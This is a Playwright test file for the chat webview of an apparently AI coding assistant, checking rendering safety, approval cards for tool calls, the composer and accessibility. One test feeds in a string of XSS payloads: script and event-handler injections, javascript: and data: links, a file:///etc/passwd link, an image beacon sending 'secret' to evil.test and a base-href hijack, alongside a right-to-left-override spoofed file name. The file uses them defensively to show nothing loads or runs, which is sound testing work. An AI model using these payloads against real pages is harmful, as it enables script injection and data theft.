import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import type { Entry, Status } from '../../webview/protocol/state.ts';
import { ChatPage, launchBrowser, type PageOptions } from './chat-page.ts';
import { serveChatPage, type ChatPageServer } from './chat-page-server.ts';
import { answer, asking, assistant, call, conversation, digestOf, editCard, outsideCard, status, user } from './scenes.ts';

let server: ChatPageServer;
let browser: Browser;
before(async () => {
  server = await serveChatPage();
  browser = await launchBrowser();
});
after(async () => {
  await browser.close();
  await server.close();
});

/** A test in a page of its own, which must not have broken its policy or thrown. */
function inChat(does: string, run: (chat: ChatPage) => Promise<void>, options: PageOptions = {}): void {
  test(does, async () => {
    const chat = await ChatPage.open(browser, server.origin, options);
    try {
      await run(chat);
      assert.deepEqual(chat.faults, []);
      assert.equal(await chat.page.locator('[style]').count(), 0, 'the policy of the host forbids style attributes');
    } finally {
      await chat.close();
    }
  });
}

const show = (chat: ChatPage, entries: readonly Entry[], rest: Partial<Status> = {}): Promise<void> =>
  chat.sendValid({ type: 'state', sessionId: 's', entries, status: { ...status, ...rest } });
const allow = (chat: ChatPage) => chat.page.getByRole('button', { name: 'Allow' });
const composer = (chat: ChatPage) => chat.page.getByRole('textbox', { name: 'Message' });
const focusedIn = (chat: ChatPage, selector: string): Promise<boolean> =>
  chat.page.evaluate((wanted) => document.activeElement?.closest(wanted) !== null, selector);

describe('what a model writes', () => {
  const attack = `<script>window.pwned = 1</script>
<img src="https://evil.test/a.png" onerror="window.pwned = 2">

![secret](https://evil.test/?q=secret) ![local](/leak.png) <iframe src="/leak"></iframe> <a href="javascript:window.pwned=3">x</a>

[cmd](command:evil) [js](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [file](file:///etc/passwd) [web](https://example.com/a?b=1)

<svg onload="window.pwned = 6"></svg><style>body { background: url(/leak) }</style><base href="https://evil.test/">`;

  inChat('loads nothing, runs nothing and leads nowhere', async (chat) => {
    const asked: string[] = [];
    chat.page.on('request', (request) => asked.push(request.url()));
    await show(chat, [user('u', attack), assistant('a', attack), call('c', { title: attack, summary: attack.slice(0, 200), detail: attack }), { kind: 'notice', id: 'n', level: 'error', text: attack, actions: [] }]);
    await chat.page.locator('button.call-row').click();
    await chat.page.locator('.address', { hasText: 'javascript:window.pwned=4' }).click();
    assert.deepEqual(asked, []);
    assert.deepEqual(server.strayRequests, []);
    assert.equal(await chat.page.evaluate(() => 'pwned' in window), false);
    assert.equal(await chat.page.locator('#root').locator('img, script, iframe, style, base, [href], [src], [onerror], [onload]').count(), 0);
    assert.deepEqual(await chat.postedOf('openLink'), []);
  });

  inChat('opens a web link only by asking the host, by mouse and by keyboard', async (chat) => {
    await show(chat, [assistant('a', attack)]);
    const link = chat.page.getByRole('link', { name: 'web' });
    assert.equal(await chat.page.getByRole('link').count(), 1);
    assert.equal(await link.getAttribute('title'), 'https://example.com/a?b=1');
    await link.click();
    await link.press('Enter');
    assert.deepEqual(await chat.postedOf('openLink'), [{ type: 'openLink', url: 'https://example.com/a?b=1' }, { type: 'openLink', url: 'https://example.com/a?b=1' }]);
    assert.equal(new URL(chat.page.url()).origin, server.origin);
  });

  inChat('cannot hide characters', async (chat) => {
    await show(chat, [assistant('a', 'run \u202Egnp.exe'), call('c', { title: 'Read a\u200Bb' })]);
    await chat.page.getByText('run ‹U+202E›gnp.exe').waitFor();
    await chat.page.getByText('Read a‹U+200B›b').waitFor();
  });

  inChat('may be one line of a megabyte', async (chat) => {
    await show(chat, [assistant('a', 'x'.repeat(1_000_000)), assistant('b', 'after')]);
    await chat.page.getByText('990,000 more characters not shown').waitFor();
    await chat.page.getByText('after', { exact: true }).waitFor();
  });

  inChat('streams in 500 pieces into the right text, and finished blocks stay the same elements', async (chat) => {
    await show(chat, [user('u', 'go'), assistant('a', '# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n', true)], { activity: 'streaming' });
    await chat.page.evaluate(() => { document.querySelector('.markdown p')?.setAttribute('data-seen', ''); });
    await chat.page.evaluate(async () => {
      for (let n = 0; n < 500; n += 1) {
        window.postMessage({ type: 'delta', id: 'a', text: n % 50 === 49 ? `w${n}.\n\n` : `w${n} ` }, '*');
        if (n % 10 === 0) await new Promise((resolve) => { requestAnimationFrame(resolve); });
      }
    });
    await chat.settle();
    const paragraphs = await chat.page.locator('.markdown p').allTextContents();
    const words = Array.from({ length: 500 }, (_, n) => `w${n}`);
    assert.deepEqual(paragraphs.slice(2).map((text) => text.replace('.', '')), Array.from({ length: 10 }, (_, n) => words.slice(n * 50, n * 50 + 50).join(' ')));
    assert.equal(await chat.page.locator('.markdown p[data-seen]').textContent(), 'First paragraph.');
  });

  inChat('is copied as it was written', async (chat) => {
    await chat.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await show(chat, [assistant('a', '```ts\nconst a = 1;\n```')]);
    await chat.page.locator('.code-block').hover();
    await chat.page.getByRole('button', { name: 'Copy code' }).click();
    await chat.page.getByRole('button', { name: 'Copied code' }).waitFor();
    assert.equal(await chat.page.evaluate(() => navigator.clipboard.readText()), 'const a = 1;');
  });
});

describe('an approval card', () => {
  inChat('says that it is shown, and takes no click before it has rested', async (chat) => {
    const disabled = await chat.page.evaluate((message) => new Promise<string | null>((resolve) => {
      const click = (): void => {
        const button = document.querySelector<HTMLElement>('.card .button.primary');
        if (button === null) requestAnimationFrame(click);
        else {
          button.click();
          resolve(button.getAttribute('aria-disabled'));
        }
      };
      window.postMessage(message, '*');
      click();
    }), { type: 'state', sessionId: 's', entries: [asking('c', editCard('c'))], status });
    assert.equal(disabled, 'true');
    await chat.untilRested();
    assert.deepEqual(await chat.postedOf('answer'), []);
    assert.deepEqual(await chat.postedOf('cardShown'), [{ type: 'cardShown', callId: 'c', digest: digestOf('a') }]);
    await allow(chat).click();
    assert.deepEqual(await chat.postedOf('answer'), [{ type: 'answer', callId: 'c', digest: digestOf('a'), answer: 'allow', reason: '' }]);
  });

  inChat('is answered once by a double click, and shows that the answer is on its way', async (chat) => {
    await show(chat, [asking('c', editCard('c'))]);
    await chat.untilRested();
    // Two clicks before anything is drawn anew.
    await allow(chat).evaluate((button: HTMLElement) => { button.click(); button.click(); });
    await chat.page.getByRole('button', { name: 'Sending…' }).waitFor();
    await chat.page.getByRole('button', { name: 'Sending…' }).dispatchEvent('click');
    await chat.page.getByRole('button', { name: 'Deny', exact: true }).dispatchEvent('click');
    assert.equal((await chat.postedOf('answer')).length, 1);
  });

  inChat('rests again when its digest changes, and is answered with the new one', async (chat) => {
    await show(chat, [asking('c', editCard('c'))]);
    await chat.untilRested();
    await chat.sendValid({ type: 'entry', entry: asking('c', editCard('c', { digest: digestOf('b') })) });
    await chat.untilPosted('cardShown', 2);
    assert.equal((await chat.postedOf('cardShown')).at(-1)?.digest, digestOf('b'));
    await chat.untilRested();
    await allow(chat).click();
    assert.equal((await chat.postedOf('answer'))[0]?.digest, digestOf('b'));
  });

  inChat('rests again in the very drawing that changes it', async (chat) => {
    await show(chat, [asking('c', editCard('c'))]);
    await chat.untilRested();
    const disabled = await chat.page.evaluate((message) => new Promise<string | null>((resolve) => {
      const card = document.querySelector('.card');
      if (card === null) return resolve(null);
      new MutationObserver(() => resolve(document.querySelector('.card .button.primary')?.getAttribute('aria-disabled') ?? null))
        .observe(card, { subtree: true, childList: true, characterData: true, attributes: true });
      window.postMessage(message, '*');
    }), { type: 'entry', entry: asking('c', editCard('c', { digest: digestOf('b'), title: 'Edit something else' })) });
    assert.equal(disabled, 'true');
  });

  inChat('rests again when the card before it goes away and it moves under the pointer', async (chat) => {
    await show(chat, [asking('c1', outsideCard('c1')), asking('c2', outsideCard('c2'))]);
    await chat.page.locator('.card:not(.resting)').nth(1).waitFor();
    await allow(chat).first().click();
    await chat.page.evaluate((message) => new Promise<void>((resolve) => {
      const click = (): void => {
        if (document.querySelectorAll('.card').length > 1) requestAnimationFrame(click);
        else {
          document.querySelector<HTMLElement>('.card .button.primary')?.click();
          resolve();
        }
      };
      window.postMessage(message, '*');
      click();
    }), { type: 'entry', entry: call('c1', { card: outsideCard('c1') }) });
    await chat.untilRested();
    assert.deepEqual((await chat.postedOf('answer')).map(({ callId }) => callId), ['c1']);
    await allow(chat).click();
    assert.deepEqual((await chat.postedOf('answer')).map(({ callId }) => callId), ['c1', 'c2']);
  });

  inChat('is not answered by Enter in the composer, by a focus, or by a message', async (chat) => {
    await show(chat, [asking('c', editCard('c'))], { activity: 'asking' });
    await chat.untilRested();
    await composer(chat).focus();
    await chat.page.keyboard.press('Enter');
    await chat.page.keyboard.type('yes, allow it');
    await chat.page.keyboard.press('Enter');
    await chat.sendValid({ type: 'focus' });
    await chat.page.keyboard.press('Enter');
    assert.deepEqual(await chat.postedOf('answer'), []);
    assert.deepEqual(await chat.postedOf('send'), [{ type: 'send', text: 'yes, allow it' }]);
  });

  inChat('leaves the focus with a person who types', async (chat) => {
    await show(chat, [user('u', 'hello')]);
    await composer(chat).focus();
    await chat.page.keyboard.type('half a ');
    await chat.sendValid({ type: 'entry', entry: asking('c', editCard('c')) });
    await chat.untilRested();
    await chat.page.keyboard.type('thought');
    assert.equal(await composer(chat).inputValue(), 'half a thought');
  });

  inChat('is reached and allowed by keyboard alone', async (chat) => {
    await show(chat, [asking('c', editCard('c'))]);
    await chat.untilRested();
    await composer(chat).focus();
    await chat.page.keyboard.press('Alt+Shift+KeyA');
    await chat.page.keyboard.press('Enter');
    assert.deepEqual((await chat.postedOf('answer')).map((message) => message.answer), ['allow']);
  });

  inChat('is left with Escape, which neither answers nor stops', async (chat) => {
    await show(chat, [asking('c', editCard('c'))], { activity: 'asking' });
    await chat.untilRested();
    // The editor listens at the window, and would stop.
    await chat.page.evaluate(() => { window.addEventListener('keydown', (event) => { document.documentElement.dataset['heard'] = event.key; }); });
    await chat.page.keyboard.press('Alt+Shift+KeyA');
    assert.equal(await focusedIn(chat, '.card'), true);
    await chat.page.keyboard.press('Escape');
    assert.equal(await focusedIn(chat, '.composer'), true);
    assert.equal(await chat.page.evaluate(() => document.documentElement.dataset['heard']), 'A');
    assert.deepEqual((await chat.posted()).filter(({ type }) => type === 'answer' || type === 'stop'), []);
  });

  inChat('is denied with a reason by keyboard alone', async (chat) => {
    await show(chat, [asking('c', editCard('c'))], { activity: 'asking' });
    await chat.untilRested();
    for (const key of ['Alt+Shift+KeyA', 'Tab', 'Tab', 'Enter']) await chat.page.keyboard.press(key);
    const reason = chat.page.getByRole('textbox', { name: 'Reason for the denial' });
    await reason.waitFor();
    await chat.page.keyboard.press('Escape');
    await reason.waitFor({ state: 'detached' });
    assert.equal(await focusedIn(chat, '.card'), true);
    await chat.page.getByRole('button', { name: 'Deny with a reason…' }).press('Enter');
    await chat.page.keyboard.type('use tabs');
    await chat.page.keyboard.press('Shift+Enter');
    await chat.page.keyboard.type('everywhere');
    await chat.page.keyboard.press('Enter');
    assert.deepEqual(await chat.postedOf('answer'), [{ type: 'answer', callId: 'c', digest: digestOf('a'), answer: 'deny', reason: 'use tabs\neverywhere' }]);
    assert.deepEqual(await chat.postedOf('stop'), []);
  });

  inChat('says why an answer did not count, and can be answered again', async (chat) => {
    await show(chat, [asking('c', editCard('c'))]);
    await chat.untilRested();
    await allow(chat).click();
    await chat.sendValid({ type: 'answerRefused', callId: 'c', why: 'The card had only just appeared.' });
    await chat.page.getByText('The card had only just appeared.').waitFor();
    await allow(chat).click();
    assert.equal((await chat.postedOf('answer')).length, 2);
  });

  inChat('is announced at once, with the way to it', async (chat) => {
    await show(chat, [user('u', 'hello')]);
    await chat.sendValid({ type: 'entry', entry: asking('c', editCard('c')) });
    await chat.page.locator('[aria-live=assertive]', { hasText: 'Approval needed: Edit src/session/store.ts. Press Alt+Shift+A to go to it.' }).waitFor();
    await chat.page.getByRole('group', { name: 'Approval needed: Edit src/session/store.ts' }).waitFor();
  });

  inChat('gives the focus on when it closes: to the next card as a whole, then to the composer', async (chat) => {
    await show(chat, [asking('c1', outsideCard('c1')), asking('c2', outsideCard('c2'))]);
    await chat.page.locator('.card:not(.resting)').nth(1).waitFor();
    await allow(chat).first().focus();
    await chat.sendValid({ type: 'entry', entry: call('c1') });
    assert.equal(await chat.page.evaluate(() => document.activeElement?.className.includes('card')), true);
    await chat.sendValid({ type: 'entry', entry: call('c2') });
    assert.equal(await focusedIn(chat, '.composer'), true);
  });

  inChat('shows the diff, what the eye cannot see, what would happen and why, and opens the whole diff', async (chat) => {
    await show(chat, [asking('c', editCard('c', { warnings: ['This file is protected.'] }))]);
    await chat.untilRested();
    for (const text of ['40 unchanged lines', 'return JSON.parse(row.body);', 'Line ends: CRLF', 'This file is protected.', 'Why it asks: No rule allows this write. (no rule)']) {
      await chat.page.getByText(text).waitFor();
    }
    await chat.page.getByText('Exactly what would happen').click();
    await chat.page.getByText('write /home/mia/shop/src/session/store.ts').waitFor();
    await chat.page.getByRole('button', { name: 'Open diff' }).click();
    await chat.page.getByRole('button', { name: 'src/session/store.ts' }).click();
    assert.deepEqual((await chat.posted()).filter(({ type }) => type.startsWith('open')), [{ type: 'openDiff', callId: 'c' }, { type: 'openFile', callId: 'c' }]);
  });

  inChat('that is closed still shows what was shown, and can be asked again', async (chat) => {
    await show(chat, [call('c', { title: 'Edit src/a.ts', status: 'denied', summary: 'denied', card: editCard('c'), canAskAgain: true })]);
    await chat.page.getByRole('button', { name: 'Denied: Edit src/a.ts' }).click();
    await chat.page.getByText('What was shown').waitFor();
    await chat.page.getByText('return JSON.parse(row.body);').waitFor();
    assert.equal(await allow(chat).count(), 0);
    await chat.page.getByRole('button', { name: 'Ask again' }).click();
    assert.deepEqual(await chat.postedOf('askAgain'), [{ type: 'askAgain', callId: 'c' }]);
  });

  inChat('out of sight is pointed to', async (chat) => {
    await show(chat, [...conversation, assistant('a2', answer), assistant('a3', answer)]);
    await chat.page.mouse.move(200, 300);
    await chat.page.mouse.wheel(0, -3000);
    await chat.page.getByRole('button', { name: 'Jump to latest' }).waitFor();
    await chat.sendValid({ type: 'entry', entry: asking('c9', editCard('c9')) });
    await chat.page.getByRole('button', { name: 'Approval needed', exact: true }).waitFor();
    assert.deepEqual(await chat.postedOf('cardShown'), []);
    await chat.page.getByRole('button', { name: 'Approval needed', exact: true }).click();
    await chat.untilRested();
    assert.equal((await chat.postedOf('cardShown')).length, 1);
    assert.equal(await focusedIn(chat, '.card'), true);
  });
});

describe('a question', () => {
  const asks = call('q', { status: 'running', question: { callId: 'q', question: 'Keep it?', options: ['Keep it', 'Delete it'] } });

  inChat('is answered by one of its options, once', async (chat) => {
    await show(chat, [asks]);
    await chat.untilRested();
    await chat.page.getByRole('button', { name: 'Delete it' }).dblclick();
    assert.deepEqual(await chat.postedOf('reply'), [{ type: 'reply', callId: 'q', text: 'Delete it' }]);
  });

  inChat('is answered in words of one’s own', async (chat) => {
    await show(chat, [asks]);
    await chat.untilRested();
    await chat.page.getByRole('textbox', { name: 'Your answer' }).fill('Keep it for a week');
    await chat.page.getByRole('textbox', { name: 'Your answer' }).press('Enter');
    assert.deepEqual(await chat.postedOf('reply'), [{ type: 'reply', callId: 'q', text: 'Keep it for a week' }]);
  });
});

describe('the composer', () => {
  inChat('sends with Enter and breaks the line with Shift+Enter', async (chat) => {
    await show(chat, []);
    await composer(chat).focus();
    await chat.page.keyboard.type('one');
    await chat.page.keyboard.press('Shift+Enter');
    await chat.page.keyboard.type('two');
    await chat.page.keyboard.press('Enter');
    assert.deepEqual(await chat.postedOf('send'), [{ type: 'send', text: 'one\ntwo' }]);
    assert.equal(await composer(chat).inputValue(), '');
  });

  inChat('does not send with the Enter that ends a composition', async (chat) => {
    await show(chat, []);
    await composer(chat).focus();
    const devtools = await chat.context.newCDPSession(chat.page);
    await devtools.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 });
    await devtools.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 229 });
    await devtools.send('Input.insertText', { text: '日本' });
    assert.deepEqual(await chat.postedOf('send'), []);
    await chat.page.keyboard.press('Enter');
    assert.deepEqual(await chat.postedOf('send'), [{ type: 'send', text: '日本' }]);
  });

  inChat('keeps its draft when the page is loaded anew', async (chat) => {
    await show(chat, []);
    await composer(chat).fill('half a thought');
    await chat.page.reload();
    await chat.untilPosted('ready');
    assert.equal(await composer(chat).inputValue(), 'half a thought');
  });

  inChat('can be written in but not sent without a model, and says what to do', async (chat) => {
    await show(chat, [], { modelReady: false, model: '' });
    await composer(chat).fill('hello');
    await composer(chat).press('Enter');
    await chat.page.getByText('Set up a model to send this.').waitFor();
    assert.deepEqual(await chat.postedOf('send'), []);
    assert.equal(await composer(chat).inputValue(), 'hello');
    await chat.page.locator('.hint').getByRole('button', { name: 'Set up a model' }).click();
    assert.deepEqual(await chat.postedOf('action'), [{ type: 'action', id: 'openSettings' }]);
  });

  inChat('stops with its button, and with Escape only while nothing is written', async (chat) => {
    await show(chat, [user('u', 'go')], { activity: 'streaming' });
    await composer(chat).fill('wait');
    await composer(chat).press('Escape');
    assert.deepEqual(await chat.postedOf('stop'), []);
    await composer(chat).fill('');
    await composer(chat).press('Escape');
    await chat.page.getByRole('button', { name: 'Stop' }).click();
    assert.equal((await chat.postedOf('stop')).length, 2);
  });

  inChat('is filled by an example, and gets the focus', async (chat) => {
    await show(chat, []);
    await chat.page.getByRole('button', { name: 'Explain how this project' }).click();
    assert.match(await composer(chat).inputValue(), /^Explain how this project/);
    assert.equal(await focusedIn(chat, '.composer'), true);
    assert.deepEqual(await chat.postedOf('send'), []);
  });

  inChat('changes the mode by keyboard', async (chat) => {
    await show(chat, []);
    await chat.page.getByRole('button', { name: 'Mode: Ask' }).focus();
    for (const key of ['Enter', 'ArrowDown', 'Enter']) await chat.page.keyboard.press(key);
    assert.deepEqual(await chat.postedOf('setMode'), [{ type: 'setMode', mode: 'plan' }]);
    assert.equal(await focusedIn(chat, '.mode-button'), true);
  });

  inChat('gets the focus when the host wishes it', async (chat) => {
    await show(chat, [call('c', { detail: 'x' })]);
    await chat.page.locator('button.call-row').focus();
    await chat.sendValid({ type: 'focus' });
    assert.equal(await focusedIn(chat, '.composer'), true);
  });
});

describe('the conversation', () => {
  inChat('takes no message that is none of the host’s, and names the fault', async (chat) => {
    await show(chat, [user('u', 'hello')]);
    for (const message of [null, 'text', { type: 'run' }, { type: 'remove' }, { type: 'entry', entry: { ...user('x', 'evil'), html: '<b>' } }, { type: 'delta', id: 'u', text: 7 }]) await chat.send(message);
    assert.deepEqual(await chat.page.locator('.user-text').allTextContents(), ['hello']);
    assert.equal(chat.warnings.length, 6);
    assert.match(chat.warnings.at(-1) ?? '', /type at "\/text"$/);
  });

  inChat('of 2,000 entries opens at its end, drawing only what is near it, and has the rest above', async (chat) => {
    await show(chat, Array.from({ length: 2000 }, (_, n) => (n % 2 === 0 ? user(`u${n}`, `question ${n}`) : assistant(`a${n}`, `answer **${n}**`))));
    await chat.page.getByText('answer 1999').waitFor();
    assert.equal(await chat.page.getByText('answer 1999').evaluate((element) => element.getBoundingClientRect().bottom <= innerHeight), true);
    assert.ok(await chat.page.locator('.entry').count() <= 400);
    for (let n = 0; n < 200 && await chat.page.getByText('question 0', { exact: true }).count() === 0; n += 1) {
      await chat.page.locator('.scroller').evaluate((box) => { box.scrollTop = 0; });
      await chat.settle();
    }
    assert.equal(await chat.page.locator('.entry').count(), 2000);
  });

  inChat('draws an old card that waits', async (chat) => {
    await show(chat, [asking('c', outsideCard('c')), ...Array.from({ length: 300 }, (_, n) => user(`u${n}`, `question ${n}`))]);
    await chat.page.getByRole('button', { name: 'Approval needed', exact: true }).click();
    await chat.untilRested();
  });

  inChat('follows its end, but never moves a person who has scrolled up', async (chat) => {
    await show(chat, [...conversation, assistant('a2', answer), assistant('a3', answer), assistant('s', 'begin', true)], { activity: 'streaming' });
    const place = () => chat.page.locator('.scroller').evaluate((box) => ({ top: Math.round(box.scrollTop), left: Math.round(box.scrollHeight - box.clientHeight - box.scrollTop) }));
    await chat.sendValid({ type: 'delta', id: 's', text: '\n\nmore'.repeat(40) });
    assert.ok((await place()).left <= 1);
    await chat.page.mouse.move(200, 300);
    await chat.page.mouse.wheel(0, -600);
    await chat.page.getByRole('button', { name: 'Jump to latest' }).waitFor();
    const { top } = await place();
    await chat.sendValid({ type: 'delta', id: 's', text: '\n\nmore'.repeat(40) });
    assert.equal((await place()).top, top);
    await chat.page.getByRole('button', { name: 'Jump to latest' }).click();
    await chat.settle();
    assert.ok((await place()).left <= 1);
    await chat.sendValid({ type: 'delta', id: 's', text: '\n\nmore'.repeat(40) });
    assert.ok((await place()).left <= 1);
  });

  inChat('says what happens politely, and that an answer is complete', async (chat) => {
    await show(chat, [user('u', 'go'), assistant('a', 'Hel', true)], { activity: 'streaming' });
    await chat.sendValid({ type: 'delta', id: 'a', text: 'lo' }, { type: 'entry', entry: assistant('a', 'Hello') }, { type: 'status', status });
    await chat.page.locator('[aria-live=polite]', { hasText: 'Answer complete' }).waitFor();
  });

  inChat('says what a queued message waits for, and what one can do about an error', async (chat) => {
    await show(chat, [asking('c', outsideCard('c')), user('u', 'and then', true), { kind: 'notice', id: 'n', level: 'error', text: 'The key was refused.', actions: [{ id: 'setKey', label: 'Set Key…' }] }]);
    await chat.page.getByText('Waiting until the card is answered').waitFor();
    await chat.page.getByRole('button', { name: 'Set Key…' }).click();
    assert.deepEqual(await chat.postedOf('action'), [{ type: 'action', id: 'setKey' }]);
  });

  inChat('fits into 250 pixels', async (chat) => {
    await show(chat, [...conversation, asking('c', editCard('c', { warnings: ['This is outside the workspace.'] })), assistant('a', answer)], { demonstration: true });
    const parts = chat.page.locator('.entry > *, .call-line > *, .card > *, .card-file > *, .card-actions > *, .composer-bar > *');
    const outside = await parts.evaluateAll((all) => all.filter((element) => element.getBoundingClientRect().right > innerWidth).map((element) => element.getAttribute('class')));
    assert.deepEqual(outside, []);
  }, { width: 250 });
});
